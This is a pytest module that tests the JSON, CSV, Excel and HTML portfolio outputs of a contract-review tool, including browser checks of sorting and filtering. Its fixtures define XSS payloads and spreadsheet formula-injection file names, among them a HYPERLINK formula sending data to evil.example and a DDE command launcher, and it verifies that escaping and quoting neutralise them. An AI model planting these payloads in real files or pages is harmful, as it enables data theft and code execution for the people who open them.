"""The portfolio outputs of ``reviewer batch``: summary.json, summary.csv, summary.xlsx and portfolio.html.

The outcomes come from the real pipeline on the bundled examples (``run_job`` writes each contract's JSON and
HTML reports), plus an error with a hostile file name and message, a duplicate whose name is a spreadsheet
formula, and an input the batch never reached. portfolio.html is checked in a real browser (Debian's chromium
through Playwright): sorting, filtering, links, and that nothing of a file name ever becomes markup.
"""

from __future__ import annotations

import base64
import copy
import csv
import hashlib
import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import lxml.html
import openpyxl
import pytest
from conftest import EXAMPLES

from reviewer.jobs import Job, outcome_template, run_job
from reviewer.library import load_library
from reviewer.report.portfolio import (
    SUMMARY_FILES,
    XLSX_COLOURS,
    csv_safe,
    relative_url,
    short_title,
    write_summaries,
)

SPEC_FIELDS = ["file", "status", "error", "type", "language", "warnings", "counts"]
SPEC_COUNTS = {"present", "weak", "missing", "red_flag"}
EXAMPLE_FILES = ["technology_licence.pdf", "jissi_kyodaku.docx", "tech_investment_agreement.md"]
HOSTILE_NAME = "contracts/<img src=x onerror=alert(1)>\"'&<script>alert(2)</script>.pdf"
HOSTILE_ERROR = f"{HOSTILE_NAME}: password-protected PDF <b onmouseover=alert(3)>bold</b> {{{{ 7*7 }}}}"
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click").pdf', "+cmd|' /C calc'!A0.docx", "-2+3.pdf", "@SUM(1,2).md"]
BROWSER = os.environ.get("REVIEWER_TEST_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
BROWSER_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                "--no-first-run", "--disable-sync"]


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory) -> tuple[Path, list[dict]]:
    """The examples reviewed once per module: their reports in a folder, and their outcomes as the batch gives them."""
    out = tmp_path_factory.mktemp("batch")
    outcomes = []
    for name in EXAMPLE_FILES:
        outcome = run_job(Job(source=str(EXAMPLES / name), formats=("json", "html"), out_dir=str(out)))
        assert outcome["status"] == "ok", outcome["error"]
        outcome["rendered"] = {}
        outcome["report_html"], outcome["duplicate_of"] = outcome["reports"]["html"], None
        outcomes.append(outcome)
    return out, outcomes


def portfolio_outcomes(outcomes: list[dict]) -> list[dict]:
    """The three reviewed examples, an error with a hostile name, duplicates named like formulas, an unreached input."""
    rows = copy.deepcopy(outcomes)
    error = outcome_template(HOSTILE_NAME)
    error.update(status="error", error=HOSTILE_ERROR, report_html=None, duplicate_of=None)
    rows.insert(1, error)
    for name in FORMULA_NAMES:
        duplicate = copy.deepcopy(outcomes[0])
        duplicate.update(file=name, duplicate_of=outcomes[0]["file"], seconds=0.0, peak_mb=0)
        rows.append(duplicate)
    skipped = outcome_template("later/unreached.docx")
    skipped.update(status="error", error="later/unreached.docx: not reviewed: the batch was interrupted", interrupted=True,
                   report_html=None, duplicate_of=None)
    rows.append(skipped)
    other = outcome_template("later/other-status.pdf")
    other.update(status="skipped", error="not reviewed", report_html=None, duplicate_of=None)
    rows.append(other)
    return rows


@pytest.fixture(scope="module")
def portfolio(reviewed) -> tuple[Path, list[dict]]:
    out, outcomes = reviewed
    rows = portfolio_outcomes(outcomes)
    paths = write_summaries(rows, out, "en")
    assert paths == [out / name for name in SUMMARY_FILES]
    return out, rows


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


# --------------------------------------------------------------------------------------------------------------
# summary.json


def test_files_written_atomically(portfolio):
    out, _ = portfolio
    for name in SUMMARY_FILES:
        assert (out / name).stat().st_size > 0
    assert not list(out.glob(".*.tmp")), "temporary files left behind"


def test_summary_json_has_the_spec_fields_for_every_input(portfolio):
    out, rows = portfolio
    raw = (out / "summary.json").read_bytes()
    summary = json.loads(raw.decode("utf-8"))  # strict UTF-8
    assert isinstance(summary, list) and len(summary) == len(rows)
    for record, outcome in zip(summary, rows, strict=True):
        assert list(record)[:len(SPEC_FIELDS)] == SPEC_FIELDS, "SPEC's fields come first"
        assert record["file"] == outcome["file"]
        assert set(record["counts"]) >= SPEC_COUNTS and all(isinstance(n, int) for n in record["counts"].values())
        assert isinstance(record["warnings"], list)
        for extra in ("findings", "severities", "side", "sha256", "duplicate_of", "reports", "report_html", "seconds", "peak_mb"):
            assert extra in record
        assert "rendered" not in record and "report" not in record
        if record["status"] == "ok":
            assert record["error"] is None
            assert record["type"] in ("licence", "investment") and record["language"] in ("en", "ja")
            assert sum(record["counts"][s] for s in SPEC_COUNTS) == len(record["findings"])
            for status in SPEC_COUNTS:
                assert record["counts"][status] == sum(1 for v in record["findings"].values() if v == status)
        else:
            assert record["error"] and record["counts"] == dict.fromkeys(SPEC_COUNTS, 0) and record["findings"] == {}
    statuses = [r["status"] for r in summary]
    assert statuses.count("ok") == len(EXAMPLE_FILES) + len(FORMULA_NAMES)
    assert summary[1]["file"] == HOSTILE_NAME and summary[1]["error"] == HOSTILE_ERROR
    assert summary[-2]["interrupted"] is True and summary[-1]["status"] == "skipped"
    licence = summary[0]
    assert licence["report_html"] == "technology_licence.html" and licence["reports"]["json"] == "technology_licence.json"
    assert licence["title"] and len(licence["sha256"]) == 64
    assert all(r["duplicate_of"] == licence["file"] for r in summary if r["file"] in FORMULA_NAMES)


def test_summary_json_is_clean_utf8(tmp_path, reviewed):
    _, outcomes = reviewed
    dirty = copy.deepcopy(outcomes[1])
    dirty["file"] = "bad\x00name\x1b[31m\ud800\udfff\x7f.docx"
    dirty["warnings"] = ["page 2\x0c has no text layer\ud83d"]
    also_dirty = copy.deepcopy(outcomes[0])
    also_dirty["file"] = Path(os.fsdecode(b"caf\xe9\x01.pdf"))  # a Path whose name is not UTF-8 (surrogate-escaped)
    write_summaries([dirty, also_dirty], tmp_path)
    text = (tmp_path / "summary.json").read_bytes().decode("utf-8")
    record = json.loads(text)[0]
    assert record["file"] == "badname[31m.docx" and json.loads(text)[1]["file"] == "caf.pdf"
    assert record["warnings"] == ["page 2 has no text layer"]
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]", text)
    # the other outputs take the same names without failing (openpyxl refuses control characters)
    assert read_csv(tmp_path / "summary.csv")[0]["file"] == "badname[31m.docx"
    assert openpyxl.load_workbook(tmp_path / "summary.xlsx")["Contracts"]["A2"].value == "badname[31m.docx"


# --------------------------------------------------------------------------------------------------------------
# summary.csv


def test_summary_csv_is_contracts_by_protections(portfolio):
    out, rows = portfolio
    raw = (out / "summary.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte order mark, so that Excel reads UTF-8"
    table = read_csv(out / "summary.csv")
    header = list(table[0])
    assert header[:9] == ["file", "status", "type", "language", "side", "present", "weak", "missing", "red_flag"]
    assert header[-4:] == ["error", "warnings", "duplicate_of", "report_html"]
    protections = header[9:-4]
    judged = {pid for r in rows for pid in r["findings"]}
    assert set(protections) == judged and len(protections) == len(judged)
    library = list(load_library(()).protections)
    assert all(pid in library for pid in protections)
    case1 = [pid for pid in protections if load_library(()).protections[pid].data["basis"] == "case1"]
    assert case1 == [pid for pid in library if pid in case1], "the library's order within a playbook"
    assert protections.index("tech_for_funding") > protections.index("non_replication"), "licensing first, then investment"
    assert len(table) == len(rows)
    for line, outcome in zip(table, rows, strict=True):
        for pid in protections:
            assert line[pid] == outcome["findings"].get(pid, ""), (outcome["file"], pid)
        if outcome["status"] == "ok":
            assert int(line["red_flag"]) == outcome["counts"]["red_flag"]
    licence, error = table[0], table[1]
    assert licence["file"].endswith("technology_licence.pdf") and licence["status"] == "ok" and licence["type"] == "licence"
    assert licence["tech_for_funding"] == "", "a protection that does not apply is an empty cell"
    assert table[2]["language"] == "ja", "jissi_kyodaku"
    assert error["status"] == "error" and error["error"] == HOSTILE_ERROR and error["file"] == HOSTILE_NAME
    assert table[-2]["status"] == "error" and table[-1]["status"] == "skipped"


def test_summary_csv_guards_against_formula_injection(portfolio):
    out, _ = portfolio
    table = read_csv(out / "summary.csv")
    by_name = {line["file"].lstrip("'"): line for line in table}
    for name in FORMULA_NAMES:
        assert by_name[name]["file"] == "'" + name
    for line in table:
        for value in line.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("\t=1") == "'\t=1" and csv_safe("a=b") == "a=b" and csv_safe(-3) == -3


def test_summary_csv_keeps_japanese_names(tmp_path, reviewed):
    _, outcomes = reviewed
    renamed = copy.deepcopy(outcomes[1])
    renamed["file"] = "契約書/特許実施許諾契約書（案）.docx"
    write_summaries([renamed], tmp_path)
    assert read_csv(tmp_path / "summary.csv")[0]["file"] == "契約書/特許実施許諾契約書（案）.docx"


# --------------------------------------------------------------------------------------------------------------
# summary.xlsx


def test_summary_xlsx_contracts_sheet(portfolio):
    out, rows = portfolio
    book = openpyxl.load_workbook(out / "summary.xlsx")
    assert book.sheetnames == ["Contracts", "Protections", "Errors"]
    sheet = book["Contracts"]
    assert sheet.freeze_panes == "B2"
    header = [c.value for c in sheet[1]]
    last = openpyxl.utils.get_column_letter(len(header))
    assert sheet.auto_filter.ref == f"A1:{last}{len(rows) + 1}"
    assert header[:5] == ["File", "Status", "Type", "Language", "Side"]
    assert header[5:9] == ["Red flags", "Missing", "Weak", "Present"]
    assert "Core technology kept back" in header and "No technology as the price of funding" in header
    assert sheet.column_dimensions["A"].width >= len("tech_investment_agreement.md")
    licence = [c for c in sheet[2]]
    assert licence[0].value == rows[0]["file"]
    assert licence[0].hyperlink is not None and licence[0].hyperlink.target == "technology_licence.html"
    assert sheet["A3"].value == HOSTILE_NAME and sheet["A3"].hyperlink is None
    assert sheet["B3"].value == "Error"
    seen = set()
    for column, title in enumerate(header, start=1):
        cell = sheet.cell(row=2, column=column)
        status = next((s for s, label in (("red_flag", "Red flag"), ("missing", "Missing"), ("weak", "Weak"), ("present", "Present"))
                       if column > 9 and cell.value == label), None)
        if status:
            seen.add(status)
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb.endswith(XLSX_COLOURS[status][0]), (title, cell.value, cell.fill.fgColor.rgb)
    assert seen == {"red_flag", "missing", "weak", "present"}, "the licence example has every status"
    red, green = XLSX_COLOURS["red_flag"][0], XLSX_COLOURS["present"][0]
    assert red != green and XLSX_COLOURS["missing"][0] not in (red, green)


def test_summary_xlsx_never_writes_a_formula(portfolio):
    out, _ = portfolio
    sheet = openpyxl.load_workbook(out / "summary.xlsx")["Contracts"]
    cells = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)}
    for name in FORMULA_NAMES:
        cell = cells[name]  # the name exactly as it is, stored as text
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.hyperlink.target == "technology_licence.html"
    with zipfile.ZipFile(out / "summary.xlsx") as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >]", package.read(name)), f"a formula in {name}"


def test_summary_xlsx_protections_and_errors_sheets(portfolio):
    out, rows = portfolio
    book = openpyxl.load_workbook(out / "summary.xlsx")
    protections = list(book["Protections"].iter_rows(values_only=True))
    assert protections[0][:5] == ("Protection", "Id", "From", "Severity", "Contracts judged")
    by_id = {row[1]: row for row in protections[1:]}
    ok = [r for r in rows if r["status"] == "ok"]
    core = by_id["core_technology_withheld"]
    assert core[0] == "Core technology kept back" and core[3] == "High" and core[2].startswith("Case 1")
    reds = sum(1 for r in ok if r["findings"].get("core_technology_withheld") == "red_flag")
    assert core[4] == sum(1 for r in ok if "core_technology_withheld" in r["findings"]) and core[5] == reds
    assert book["Protections"].freeze_panes == "B2" and book["Protections"].auto_filter.ref
    errors = list(book["Errors"].iter_rows(values_only=True))
    assert errors[0] == ("File", "Status", "Error")
    assert [e[0] for e in errors[1:]] == [HOSTILE_NAME, "later/unreached.docx", "later/other-status.pdf"]
    assert errors[1][2] == HOSTILE_ERROR and errors[2][1] == "Interrupted" and errors[3][1] == "Skipped"


def test_japanese_labels(tmp_path, reviewed):
    _, outcomes = reviewed
    write_summaries(copy.deepcopy(outcomes), tmp_path, "ja")
    sheet = openpyxl.load_workbook(tmp_path / "summary.xlsx")["Contracts"]
    header = [c.value for c in sheet[1]]
    assert header[0] == "ファイル" and "コア技術の秘匿（開示対象からの除外）" in header
    assert {sheet.cell(row=2, column=c).value for c in range(10, len(header) + 1)} >= {"リスク", "欠落", "不十分", "充足"}
    page = (tmp_path / "portfolio.html").read_text(encoding="utf-8")
    assert '<html lang="ja">' in page and "契約書ポートフォリオ・レビュー" in page and "ファイル名で絞り込み" in page
    assert list(read_csv(tmp_path / "summary.csv")[0])[:2] == ["file", "status"], "CSV headings stay ids for tools"


def test_language_defaults_to_the_contracts(tmp_path, reviewed):
    _, outcomes = reviewed
    japanese = copy.deepcopy(outcomes[1])
    write_summaries([japanese, copy.deepcopy(japanese), copy.deepcopy(outcomes[0])], tmp_path, None)
    assert '<html lang="ja">' in (tmp_path / "portfolio.html").read_text(encoding="utf-8")


def test_no_contracts(tmp_path):
    paths = write_summaries([], tmp_path)
    assert json.loads(paths[0].read_text(encoding="utf-8")) == []
    assert paths[1].read_bytes().decode("utf-8-sig").splitlines() == [
        "file,status,type,language,side,present,weak,missing,red_flag,error,warnings,duplicate_of,report_html"]
    assert openpyxl.load_workbook(paths[2]).sheetnames == ["Contracts", "Protections", "Errors"]
    assert "No contract was given." in paths[3].read_text(encoding="utf-8")


def test_protection_from_a_playbook_without_the_library(tmp_path, reviewed):
    _, outcomes = reviewed
    custom = copy.deepcopy(outcomes[0])
    custom["findings"]["house_rule_escrow"] = "missing"
    custom["severities"]["house_rule_escrow"] = "low"
    write_summaries([custom], tmp_path)
    header = list(read_csv(tmp_path / "summary.csv")[0])
    assert header[-5] == "house_rule_escrow", "unknown ids after the library's"
    by_id = {r[1]: r for r in openpyxl.load_workbook(tmp_path / "summary.xlsx")["Protections"].iter_rows(values_only=True)}
    assert by_id["house_rule_escrow"][0] == "House rule escrow" and by_id["house_rule_escrow"][3] == "Low"


# --------------------------------------------------------------------------------------------------------------
# portfolio.html


def test_relative_urls():
    assert relative_url("technology_licence.html") == "technology_licence.html"
    assert relative_url("sub dir/a b#1?.html") == "sub%20dir/a%20b%231%3F.html"
    assert relative_url("javascript:alert(1)") == "javascript%3Aalert(1)"
    assert relative_url("\\\\server\\契約書.html") == "server/契約書.html"
    assert relative_url('x"><script>.html') == "x%22%3E%3Cscript%3E.html"
    assert short_title("Licensor's right to terminate (breach, insolvency, change of control)") == "Licensor's right to terminate"
    assert short_title("コア技術の秘匿（開示対象からの除外）") == "コア技術の秘匿"


def test_portfolio_html_escapes_everything(portfolio):
    out, rows = portfolio
    page = (out / "portfolio.html").read_text(encoding="utf-8")
    tree = lxml.html.fromstring(page)
    assert not tree.xpath("//img") and not tree.xpath("//b")
    assert len(tree.xpath("//script")) == 1
    assert not [e for e in tree.iter() if isinstance(e.tag, str) and any(a.startswith("on") for a in e.attrib)]
    names = [" ".join(th.text_content().split()) for th in tree.xpath("//tbody/tr/th[contains(@class, 'name')]")]
    assert any(n.startswith(HOSTILE_NAME) for n in names)
    assert HOSTILE_ERROR in [td.text_content() for td in tree.xpath("//td[contains(@class, 'reason')]")]
    # self-contained: nothing fetched from anywhere
    assert not tree.xpath("//*[@src]") and not tree.xpath("//link")
    assert not [h for h in tree.xpath("//a/@href") if re.match(r"^[a-z][a-z0-9+.-]*:", h, re.I) or h.startswith("//")]
    # only the page's own script may run
    policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
    script = tree.xpath("//script")[0].text
    digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
    assert "default-src 'none'" in policy
    assert re.search(r"script-src ([^;]*)", policy).group(1) == f"'sha256-{digest}'", "no 'unsafe-inline' for scripts"


def test_portfolio_html_matrix(portfolio):
    out, rows = portfolio
    tree = lxml.html.fromstring((out / "portfolio.html").read_text(encoding="utf-8"))
    body = tree.xpath("//table[@id='matrix']/tbody/tr")
    assert len(body) == len(rows)
    heads = tree.xpath("//table[@id='matrix']/thead/tr/th[@data-protection]")
    assert [h.get("data-protection") for h in heads] == list(read_csv(out / "summary.csv")[0])[9:-4]
    core = next(h for h in heads if h.get("data-protection") == "core_technology_withheld")
    assert core.get("title").startswith("Core technology kept back") and core.text_content().strip() == "Core technology kept back"
    cell = body[0].xpath("td[contains(@class, 's-red_flag')]")[0]
    assert cell.get("title") == "Red flag: Core technology kept back" and cell.text_content().startswith("!")
    assert body[0].xpath(".//a/@href") == ["technology_licence.html"]
    assert not body[1].xpath(".//a") and body[1].get("data-status") == "error"
    assert "Interrupted" in body[-2].text_content()


@pytest.mark.skipif(not Path(BROWSER).exists(), reason=f"no chromium at {BROWSER} (set REVIEWER_TEST_CHROMIUM)")
def test_portfolio_in_a_browser(portfolio):
    sync_api = pytest.importorskip("playwright.sync_api")
    out, rows = portfolio
    problems: list[str] = []
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=BROWSER, args=BROWSER_ARGS, timeout=15000)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 900})
            page.set_default_timeout(5000)
            page.on("pageerror", lambda exc: problems.append(f"page error: {exc}"))
            page.on("console", lambda msg: problems.append(f"console {msg.type}: {msg.text}") if msg.type == "error" else None)
            page.on("dialog", lambda dialog: (problems.append(f"dialog: {dialog.message}"), dialog.dismiss()))
            page.on("request", lambda request: problems.append(f"request: {request.url}") if not request.url.startswith("file:") else None)
            page.goto((out / "portfolio.html").as_uri())

            matrix = page.locator("#matrix")
            assert matrix.is_visible()
            body_rows = page.locator("#matrix tbody tr")
            assert body_rows.count() == len(rows)
            assert page.locator("#controls").is_visible(), "the script ran (the CSP hash matches)"
            assert page.locator("#shown").inner_text() == f"{len(rows)} of {len(rows)} contracts shown"
            assert page.locator("img").count() == 0 and page.locator("script").count() == 1

            def names() -> list[str]:
                return page.locator("#matrix tbody tr:not([hidden]) .name").evaluate_all(
                    "cells => cells.map(c => (c.querySelector('a, .file') || c).textContent.trim())")

            # sort by the number of red flags: most first, rows without counts last
            red_header = page.locator("#matrix thead th", has_text="Red flags")
            red_header.locator("button").click()
            assert red_header.get_attribute("aria-sort") == "descending"
            assert names()[0].endswith("tech_investment_agreement.md")
            assert set(names()[-3:]) == {HOSTILE_NAME, "later/unreached.docx", "later/other-status.pdf"}
            red_header.locator("button").click()
            assert red_header.get_attribute("aria-sort") == "ascending"
            assert names()[0].endswith("jissi_kyodaku.docx")
            # sort by one protection: red flags first
            page.locator("#matrix thead th[data-protection='core_technology_withheld'] button").click()
            firsts = names()[:1 + len(FORMULA_NAMES)]
            assert all(n.endswith("technology_licence.pdf") or n in FORMULA_NAMES for n in firsts)
            # back to the input order
            page.locator("#matrix thead th.idx button").click()
            assert names() == [r["file"] for r in rows]

            # the text filter hides the other rows
            page.locator("#q").fill("jissi")
            assert names() == [rows[2]["file"]]
            assert page.locator("#shown").inner_text() == f"1 of {len(rows)} contracts shown"
            page.locator("#q").fill("")
            page.locator("#ftype").select_option("investment")
            assert names() == [rows[3]["file"]]
            page.locator("#ftype").select_option("")
            page.locator("#fstatus").select_option("error")
            assert names() == [HOSTILE_NAME, "later/unreached.docx"]
            page.locator("#fstatus").select_option("red")
            assert len(names()) == len(EXAMPLE_FILES) + len(FORMULA_NAMES)
            page.locator("#fstatus").select_option("")

            # a cell says what it is; a contract links to its own report, which opens
            cell = page.locator("#matrix tbody tr").first.locator("td.s-red_flag").first
            assert cell.get_attribute("title") == "Red flag: Core technology kept back"
            link = page.locator("#matrix tbody tr").first.locator(".name a")
            assert link.get_attribute("href") == "technology_licence.html"
            assert (out / link.get_attribute("href")).is_file()
            link.click()
            page.wait_for_url("**/technology_licence.html")
            assert "TECHNOLOGY LICENSE AGREEMENT" in page.title()
        finally:
            browser.close()
    assert not problems, problems


def test_portfolio_shows_paths_below_the_shared_folder():
    from reviewer.report.portfolio import display_names

    assert display_names(["/data/room/a/x.pdf", "/data/room/b/y.docx"]) == ["a/x.pdf", "b/y.docx"]
    assert display_names(["/data/room/x.pdf"]) == ["x.pdf"]
    assert display_names(["x.pdf", "sub/y.pdf"]) == ["x.pdf", "sub/y.pdf"]
